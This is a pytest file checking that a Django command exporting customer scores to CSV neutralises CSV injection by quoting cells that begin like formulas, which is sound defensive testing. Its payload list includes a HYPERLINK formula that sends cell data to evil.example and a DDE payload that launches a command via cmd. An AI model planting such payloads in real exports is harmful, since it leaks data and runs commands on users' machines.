"""export_scores: no cell of the CSV runs as a formula when staff open it in Excel or WPS (CSV injection)."""

import csv

import pytest
from django.core.management import call_command

from tests.factories import CustomerFactory, TierFactory, make_run, make_score

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def test_cells_that_look_like_formulas_are_quoted(brand, tmp_path):
    run = make_run(brand)
    tier = TierFactory(brand=brand, code="=1+1")
    for external_id in [*FORMULAS, "C-PLAIN"]:
        customer = CustomerFactory(brand=brand, external_id=external_id)
        make_score(run, customer, tier=tier, clv=None)
    path = tmp_path / "scores.csv"
    call_command("export_scores", "--brand", brand.slug, "--output", str(path))
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["customer_id"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["C-PLAIN"])
    assert {r["tier"] for r in rows} == {"'=1+1"}
    # numbers stay numbers
    assert {r["p_purchase_horizon"] for r in rows} == {"0.700000"}
    assert {r["clv"] for r in rows} == {""}
